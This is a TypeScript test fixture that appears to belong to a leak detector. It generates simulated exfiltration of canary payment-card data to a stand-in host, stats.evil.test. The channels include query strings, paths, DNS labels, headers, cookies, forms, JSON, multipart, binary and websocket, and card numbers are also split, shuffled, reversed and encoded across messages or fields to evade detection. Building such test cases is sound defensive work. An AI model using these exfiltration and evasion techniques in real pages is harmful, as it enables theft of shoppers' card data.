import type { Canary, WireMessage } from '@komainu/model';
import type { Payload } from './canary-encoders.ts';
import { SALT } from './canary-encoders.ts';
import { message, PSP, post, SHOP, type Store } from './make.ts';

const EVIL = 'https://stats.evil.test';
/** What is text stays text; bytes become it as `encodeURIComponent`, a header or a label needs them. */
const bytesOf = (payload: Payload): Buffer =>
  typeof payload === 'string' ? Buffer.from(payload, 'utf8') : Buffer.from(payload);
const percent = (payload: Payload): string =>
  typeof payload === 'string'
    ? encodeURIComponent(payload)
    : [...payload].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('');
/** A header or a cookie holds visible ASCII only: anything else goes in as base64. */
const visible = (payload: Payload): string =>
  typeof payload === 'string' && /^[ -~]*$/.test(payload) ? payload : bytesOf(payload).toString('base64');
/** A name is letters and digits without case, 63 to a label: anything else goes in as hexadecimal. */
const labels = (payload: Payload): string => {
  const text =
    typeof payload === 'string' && /^[a-z0-9-]+$/.test(payload) ? payload : bytesOf(payload).toString('hex');
  return (text.match(/.{1,60}/g) ?? []).join('.');
};
/** A string of one character a byte, as scripts keep bytes. */
const inString = (payload: Payload): string =>
  typeof payload === 'string' ? payload : Buffer.from(payload).toString('latin1');

/** Every channel a payload may go out by whole. */
export const CHANNELS: Readonly<Record<string, (kept: Store, payload: Payload) => WireMessage>> = {
  query: (_, payload) => message(`${EVIL}/i.gif?v=2&d=${percent(payload)}&t=1795000000123`),
  path: (_, payload) => message(`${EVIL}/p/${percent(payload)}/i.gif`),
  host: (_, payload) => message(`https://${labels(payload)}.evil.test/`),
  header: (_, payload) => message(`${EVIL}/x`, { headers: [['x-trace', visible(payload)]] }),
  cookie: (_, payload) =>
    message(`${EVIL}/x`, {
      headers: [['Cookie', `sid=${SALT}; t=${encodeURIComponent(visible(payload))}; v=1`]],
    }),
  form: (kept, payload) => post(kept, `${EVIL}/c`, `event=view&d=${percent(payload)}&v=3`),
  json: (kept, payload) =>
    post(kept, `${EVIL}/c`, JSON.stringify({ event: 'view', d: inString(payload), v: 3 })),
  multipart: (kept, payload) =>
    post(
      kept,
      `${EVIL}/c`,
      Buffer.concat([
        Buffer.from(
          '--b7f1\r\nContent-Disposition: form-data; name="event"\r\n\r\nview\r\n--b7f1\r\nContent-Disposition: form-data; name="d"; filename="d"\r\n\r\n',
        ),
        bytesOf(payload),
        Buffer.from('\r\n--b7f1--\r\n'),
      ]),
    ),
  binary: (kept, payload) => post(kept, `${EVIL}/c`, bytesOf(payload)),
  frame: (kept, payload) =>
    post(kept, 'wss://stats.evil.test/s', bytesOf(payload), { channel: 'websocket', resource: 'websocket' }),
};

/** Ordinary messages around it: the page itself, with its session, and the payment. */
export const around = (kept: Store): readonly WireMessage[] => [
  message(`${SHOP}/checkout/payment`, { headers: [['Cookie', `sid=${SALT}`]] }),
  post(kept, `${PSP}/telemetry`, JSON.stringify({ event: 'view', at: 1_795_000_000_000 })),
];

/** What goes into one message of several: the value, and where it belongs. */
interface Part {
  readonly value: string;
  readonly at: number;
}
const SEND: Readonly<Record<string, (kept: Store, part: Part) => WireMessage>> = {
  query: (_, { value, at }) => message(`${EVIL}/k.gif?i=${at}&k=${encodeURIComponent(value)}`),
  path: (_, { value, at }) => message(`${EVIL}/k/${at}/${encodeURIComponent(value)}.gif`),
  host: (_, { value, at }) => message(`https://${at}-${value.toLowerCase()}.k.evil.test/`),
  header: (_, { value, at }) => message(`${EVIL}/x`, { headers: [['x-part', `${at}:${value}`]] }),
  cookie: (_, { value, at }) => message(`${EVIL}/x`, { headers: [['Cookie', `i=${at}; k=${value}`]] }),
  form: (kept, { value, at }) => post(kept, `${EVIL}/c`, `i=${at}&k=${encodeURIComponent(value)}`),
  json: (kept, { value, at }) => post(kept, `${EVIL}/c`, JSON.stringify({ i: at, k: value })),
  frame: (kept, { value, at }) =>
    post(kept, 'wss://stats.evil.test/s', `${at}|${value}`, { channel: 'websocket', resource: 'websocket' }),
};
const cut = (text: string, size: number): readonly Part[] =>
  (text.match(new RegExp(`.{1,${size}}`, 'g')) ?? []).map((value, at) => ({ value, at }));
/** Out of order, the same for every run. */
const shuffled = (parts: readonly Part[]): readonly Part[] =>
  parts.toSorted((a, b) => ((a.at * 7 + 3) % 11) - ((b.at * 7 + 3) % 11));
const hex = (value: string): string => Buffer.from(value).toString('hex');

/** Cut over several messages. */
export const SPLITS: Readonly<Record<string, (card: Canary['card']) => readonly Part[]>> = {
  'four digits a message': ({ number }) => cut(number, 4),
  'four digits a message, out of order': ({ number }) => shuffled(cut(number, 4)),
  'one digit a message': ({ number }) => cut(number, 1),
  'one digit a message, backwards': ({ number }) => cut(number, 1).toReversed(),
  'one digit a message, out of order': ({ number }) => shuffled(cut(number, 1)),
  'one character code a message': ({ number }) =>
    cut(number, 1).map(({ value, at }) => ({ value: String(value.charCodeAt(0)), at })),
  'base64 in pieces of five': ({ number, expiry, code }) =>
    cut(Buffer.from(`${number}|${expiry}|${code}`).toString('base64'), 5),
  'pieces of three digits, each in hex': ({ number }) =>
    cut(number, 3).map(({ value, at }) => ({ value: hex(value), at })),
  'hex in pieces of seven, out of order': ({ number }) => shuffled(cut(hex(number), 7)),
};
export const SPLIT_CHANNELS = Object.keys(SEND);
/** The messages of one split on one channel, with others in between. */
export const sent = (kept: Store, channel: string, parts: readonly Part[]): readonly WireMessage[] =>
  parts.flatMap((part) => {
    const one = SEND[channel]?.(kept, part);
    return one === undefined ? [] : [one, message(`${SHOP}/assets/p-${part.at}.js?v=${part.at * 31}`)];
  });

/** Cut over the parts of one message. */
export const WITHIN: Readonly<Record<string, (kept: Store, card: Canary['card']) => WireMessage>> = {
  'four parameters': (_, { number }) =>
    message(
      `${EVIL}/i?${cut(number, 4)
        .map(({ value, at }) => `p${at}=${value}`)
        .join('&')}`,
    ),
  'four parameters, out of order': (_, { number }) =>
    message(
      `${EVIL}/i?${shuffled(cut(number, 4))
        .map(({ value, at }) => `p${at}=${value}`)
        .join('&')}`,
    ),
  'a digit a parameter, among others': (_, { number }) =>
    message(
      `${EVIL}/i?v=2&${cut(number, 1)
        .map(({ value, at }) => `d${at}=${value}`)
        .join('&')}&z=page`,
    ),
  'base64 in each of four parameters': (_, { number }) =>
    message(
      `${EVIL}/i?${cut(number, 4)
        .map(({ value, at }) => `p${at}=${encodeURIComponent(Buffer.from(value).toString('base64'))}`)
        .join('&')}`,
    ),
  'labels of a host': (_, { number }) =>
    message(
      `https://${cut(number, 4)
        .map(({ value }) => value)
        .join('.')}.evil.test/`,
    ),
  'segments of a path': (_, { number }) =>
    message(
      `${EVIL}/${cut(number, 2)
        .map(({ value }) => value)
        .join('/')}`,
    ),
  'four cookies': (_, { number }) =>
    message(`${EVIL}/x`, {
      headers: [
        [
          'Cookie',
          cut(number, 4)
            .map(({ value, at }) => `c${at}=${value}`)
            .join('; '),
        ],
      ],
    }),
  'four headers': (_, { number }) =>
    message(`${EVIL}/x`, {
      headers: [
        ['accept', '*/*'],
        ...cut(number, 4).map(({ value, at }) => [`x-p${at}`, value] as const),
        ['dnt', '1'],
      ],
    }),
  'fields of a form': (kept, { number }) =>
    post(
      kept,
      `${EVIL}/c`,
      cut(number, 4)
        .map(({ value, at }) => `f${at}=${value}`)
        .join('&'),
    ),
  'an array in JSON': (kept, { number }) =>
    post(kept, `${EVIL}/c`, JSON.stringify({ v: 1, d: cut(number, 1).map(({ value }) => Number(value)) })),
  'an object a digit': (kept, { number }) =>
    post(kept, `${EVIL}/c`, JSON.stringify(cut(number, 1).map(({ value, at }) => ({ at, value })))),
  'lines of JSON': (kept, { number }) =>
    post(
      kept,
      `${EVIL}/c`,
      cut(number, 4)
        .map(({ value }) => JSON.stringify({ k: value }))
        .join('\n'),
    ),
  'parts of a form with files': (kept, { number }) =>
    post(
      kept,
      `${EVIL}/c`,
      `${cut(number, 4)
        .map(({ value, at }) => `--b\r\nContent-Disposition: form-data; name="f${at}"\r\n\r\n${value}\r\n`)
        .join('')}--b--\r\n`,
    ),
  'path, query and header': (kept, { number }) =>
    post(kept, `${EVIL}/${number.slice(0, 4)}?q=${number.slice(4, 8)}`, number.slice(12), {
      headers: [['x-q', number.slice(8, 12)]],
    }),
};
